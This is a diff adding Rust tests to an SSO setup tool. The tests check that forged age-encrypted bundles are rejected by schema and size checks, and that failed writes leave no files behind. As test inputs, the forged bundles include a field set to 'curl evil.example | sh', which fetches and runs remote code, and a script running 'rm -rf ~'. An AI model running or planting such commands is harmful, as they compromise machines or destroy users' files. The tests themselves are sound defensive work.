@@ -226,3 +226,94 @@ fn a_foreign_file_is_refused() {
         }
     }
 }
+
+/// Encrypts `plaintext` to `recipient` with Debian's `age -a`, as anyone who holds the
+/// vendor's public key can.
+fn forge_with_age_cli(recipient: &str, plaintext: &[u8]) -> Vec<u8> {
+    use std::io::Write;
+    let mut child = Command::new(AGE)
+        .args(["-e", "-a", "-r", recipient])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("age runs");
+    // Written from a thread: age writes its output while it reads, and a large plaintext
+    // would fill both pipes if this thread wrote it all before reading.
+    let mut stdin = child.stdin.take().unwrap();
+    let plaintext = plaintext.to_vec();
+    let writer = std::thread::spawn(move || stdin.write_all(&plaintext));
+    let output = child.wait_with_output().unwrap();
+    writer.join().unwrap().unwrap();
+    assert!(output.status.success());
+    output.stdout
+}
+
+/// #74: a bundle forged by anyone holding the vendor's public key decrypts fine (age has no
+/// sender authentication), so what is inside is held to the payload's schema and size cap,
+/// and `bundle open` says that age proves nothing about the sender.
+#[test]
+fn a_forged_bundle_is_treated_as_unauthenticated_input() {
+    let folder = tempfile::tempdir().unwrap();
+    let (identity_text, recipient, identity_path) = our_key_pair(folder.path());
+    let with = || OpenWith::IdentityFile(identity_text.clone());
+    let mut extra_field = serde_json::to_value(payload()).unwrap();
+    extra_field["run_after_import"] = "curl evil.example | sh".into();
+    let mut other_format = serde_json::to_value(payload()).unwrap();
+    other_format["format"] = "sso-setup-bundle/9".into();
+    let mut secret_as_number = serde_json::to_value(payload()).unwrap();
+    secret_as_number["client_secret"] = 42.into();
+    let oversized =
+        serde_json::to_vec(&serde_json::json!({"format": BUNDLE_FORMAT, "padding": "x".repeat(300 * 1024)})).unwrap();
+    for (case, plaintext, expected) in [
+        ("an unknown field", serde_json::to_vec(&extra_field).unwrap(), "bundle-not-a-bundle"),
+        ("another format", serde_json::to_vec(&other_format).unwrap(), "bundle-not-a-bundle"),
+        ("a wrong type", serde_json::to_vec(&secret_as_number).unwrap(), "bundle-not-a-bundle"),
+        ("not JSON", b"#!/bin/sh\nrm -rf ~\n".to_vec(), "bundle-not-a-bundle"),
+        ("over the payload cap", oversized, "bundle-payload-too-large"),
+    ] {
+        let forged = forge_with_age_cli(&recipient, &plaintext);
+        let error = open(&forged, &with()).unwrap_err();
+        assert_eq!(sso_setup::error::UserFacingError::code(&error), expected, "{case}: {error:?}");
+    }
+    // A well-formed forgery opens: nothing in age can tell it from a real one, and the
+    // command line says so every time.
+    let forged =
+        forge_with_age_cli(&recipient, &serde_json::to_vec(&serde_json::to_value(payload()).unwrap()).unwrap());
+    let bundle_path = folder.path().join("forged.age");
+    std::fs::write(&bundle_path, forged).unwrap();
+    let output = Command::new(env!("CARGO_BIN_EXE_sso-setup"))
+        .args(["bundle", "open", text_of(&bundle_path), "--identity", text_of(&identity_path)])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    assert!(String::from_utf8_lossy(&output.stderr).contains("age does not prove who made a bundle"));
+}
+
+/// #75: a write that runs out of space (here: a file size limit of 0 blocks, the way a full
+/// disk refuses the first block) fails with the reason and leaves nothing behind, neither
+/// the file nor the temporary file it is written through. Bundles and keys share that path
+/// (a temporary file in the same folder, then one rename or link).
+#[test]
+fn a_write_that_runs_out_of_space_leaves_nothing_behind() {
+    let folder = tempfile::tempdir().unwrap();
+    let key = folder.path().join("vendor.key");
+    // SIGXFSZ ignored, so the write fails with EFBIG as on a full disk instead of killing.
+    let output = Command::new("bash")
+        .args(["-c", "trap '' XFSZ; ulimit -f 0; exec \"$0\" bundle keygen -o \"$1\""])
+        .arg(env!("CARGO_BIN_EXE_sso-setup"))
+        .arg(&key)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(!output.status.success(), "{stderr}");
+    assert!(stderr.starts_with("error: ") && stderr.contains("could not be written"), "{stderr}");
+    assert!(stderr.contains("hint: "), "{stderr}");
+    assert!(output.stdout.is_empty(), "no public key is printed for a key that was not saved");
+    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0, "no file, no temporary file");
+    // And an export into a folder that cannot take it writes nothing either.
+    let (_, recipient, _) = our_key_pair(folder.path());
+    let recipients = BundleRecipients::Keys(vec![parse_recipient(&recipient).unwrap()]);
+    let error = export(&payload(), &recipients, &folder.path().join("missing-folder").join("b.age")).unwrap_err();
+    assert!(matches!(error, BundleError::WriteFailed { .. }), "{error:?}");
+    assert!(!folder.path().join("missing-folder").exists());
+}
